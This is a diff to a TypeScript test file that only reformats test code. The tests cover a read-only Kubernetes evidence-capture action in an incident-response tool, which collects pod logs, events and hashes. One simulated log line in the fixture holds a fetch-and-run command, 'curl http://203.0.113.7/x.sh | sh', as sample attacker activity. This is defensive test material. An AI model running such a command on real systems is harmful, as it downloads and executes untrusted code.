@@ -22,8 +22,17 @@ describe('k8s.capturePod', () => {
     const { id, status } = await runAction(h, 'k8s.capturePod', POD);
     expect(status).toBe('verified');
     const dir = join(h.env.evidenceDir, 'INC-2026-042', 'k8s', 'shop', 'web-7d9f-abcde', id);
-    const ev = h.fx.records().filter((r) => r.type === 'evidence.recorded').map((r) => r.data as Record<string, any>);
-    expect(ev.map((e) => e.path.slice(dir.length + 1))).toEqual(['pod.json', 'logs/app.log', 'logs/app.previous.log', 'logs/proxy.log', 'events.json']);
+    const ev = h.fx
+      .records()
+      .filter((r) => r.type === 'evidence.recorded')
+      .map((r) => r.data as Record<string, any>);
+    expect(ev.map((e) => e.path.slice(dir.length + 1))).toEqual([
+      'pod.json',
+      'logs/app.log',
+      'logs/app.previous.log',
+      'logs/proxy.log',
+      'events.json',
+    ]);
     for (const e of ev) {
       const bytes = readFileSync(e.path);
       expect(e.sha256).toBe(sha(bytes));
@@ -31,7 +40,9 @@ describe('k8s.capturePod', () => {
       expect(e).toMatchObject({ actionId: id, collector: 'tester', toolVersion: 'firebreak 0.0.0-test', target: POD });
     }
     expect(new Set(ev.map((e) => e.evidenceId)).size).toBe(5);
-    expect(readFileSync(join(dir, 'logs/app.previous.log'), 'utf8')).toBe('curl http://203.0.113.7/x.sh | sh\nkilled\n');
+    expect(readFileSync(join(dir, 'logs/app.previous.log'), 'utf8')).toBe(
+      'curl http://203.0.113.7/x.sh | sh\nkilled\n',
+    );
     expect(readFileSync(join(dir, 'logs/app.log'), 'utf8')).toContain('GET /admin 200 from 203.0.113.7');
     const pod = JSON.parse(readFileSync(join(dir, 'pod.json'), 'utf8'));
     expect(pod.metadata.labels.app).toBe('web');
@@ -39,12 +50,20 @@ describe('k8s.capturePod', () => {
     // The namespace's events, and only that namespace's.
     const events = JSON.parse(readFileSync(join(dir, 'events.json'), 'utf8'));
     expect(events.items.map((e: { reason: string }) => e.reason).sort()).toEqual(['BackOff', 'Pulled']);
-    expect(ev.find((e) => e.path.endsWith('app.previous.log'))!.source).toBe('kubernetes fake: pod shop/web-7d9f-abcde logs container=app previous=true');
+    expect(ev.find((e) => e.path.endsWith('app.previous.log'))!.source).toBe(
+      'kubernetes fake: pod shop/web-7d9f-abcde logs container=app previous=true',
+    );
     const ok = recordsOf(h.fx, id, 'action.succeeded')[0]!;
-    expect(ok.message).toContain('not available: proxy (previous container): previous terminated container "proxy" in pod "web-7d9f-abcde" not found');
+    expect(ok.message).toContain(
+      'not available: proxy (previous container): previous terminated container "proxy" in pod "web-7d9f-abcde" not found',
+    );
     // Read-only: the exact GETs, nothing else.
     expect(h.sim.mutations()).toEqual([]);
-    expect(h.sim.recorder.calls.filter((c) => c.op === 'get pods/log').map((c) => [c.query.container, c.query.previous ?? ''])).toEqual([
+    expect(
+      h.sim.recorder.calls
+        .filter((c) => c.op === 'get pods/log')
+        .map((c) => [c.query.container, c.query.previous ?? '']),
+    ).toEqual([
       ['app', ''],
       ['app', 'true'],
       ['proxy', ''],
@@ -52,10 +71,14 @@ describe('k8s.capturePod', () => {
     ]);
   });
 
-  it('stores the pod object byte for byte as the API server sent it (not client-node\'s re-serialisation)', async () => {
+  it("stores the pod object byte for byte as the API server sent it (not client-node's re-serialisation)", async () => {
     h = await kubeHarness();
     const { id } = await runAction(h, 'k8s.capturePod', POD);
-    const pod = h.fx.records().find((r) => r.type === 'evidence.recorded' && (r.data as { path: string }).path.endsWith('/pod.json'))!.data as { path: string };
+    const pod = h.fx
+      .records()
+      .find((r) => r.type === 'evidence.recorded' && (r.data as { path: string }).path.endsWith('/pod.json'))!.data as {
+      path: string;
+    };
     // The sim answers JSON.stringify of its stored object; a typed V1Pod round trip would differ
     // (timestamps become Date objects and re-serialise with milliseconds).
     expect(readFileSync(pod.path, 'utf8')).toBe(JSON.stringify(h.sim.get('pods', 'shop', 'web-7d9f-abcde')));
@@ -83,11 +106,19 @@ describe('k8s.capturePod', () => {
 
   it('403 on the logs is action.failed with the reason and the permission hint, and no evidence recorded', async () => {
     h = await kubeHarness();
-    h.sim.recorder.fail({ op: 'get pods/log', status: 403, code: 'Forbidden', message: 'pods "web-7d9f-abcde" is forbidden: User "responder" cannot get resource "pods/log" in API group "" in the namespace "shop"' });
+    h.sim.recorder.fail({
+      op: 'get pods/log',
+      status: 403,
+      code: 'Forbidden',
+      message:
+        'pods "web-7d9f-abcde" is forbidden: User "responder" cannot get resource "pods/log" in API group "" in the namespace "shop"',
+    });
     const { id, status } = await runAction(h, 'k8s.capturePod', POD);
     expect(status).toBe('failed');
     const f = recordsOf(h.fx, id, 'action.failed')[0]!;
-    expect(f.message).toContain('HTTP 403 Forbidden: pods "web-7d9f-abcde" is forbidden: User "responder" cannot get resource "pods/log"');
+    expect(f.message).toContain(
+      'HTTP 403 Forbidden: pods "web-7d9f-abcde" is forbidden: User "responder" cannot get resource "pods/log"',
+    );
     expect(f.hint).toMatch(/lack permission/);
     expect(h.fx.records().some((x) => x.type === 'evidence.recorded')).toBe(false);
   });
@@ -104,7 +135,10 @@ describe('k8s.capturePod', () => {
     const second = await runAction(h, 'k8s.capturePod', POD);
     expect(second.status).toBe('verified');
     expect(await h.fx.runner.reverify(first.id)).toBe('verified');
-    const paths = h.fx.records().filter((r) => r.type === 'evidence.recorded').map((r) => (r.data as { path: string }).path);
+    const paths = h.fx
+      .records()
+      .filter((r) => r.type === 'evidence.recorded')
+      .map((r) => (r.data as { path: string }).path);
     expect(new Set(paths).size).toBe(10);
   });
 });
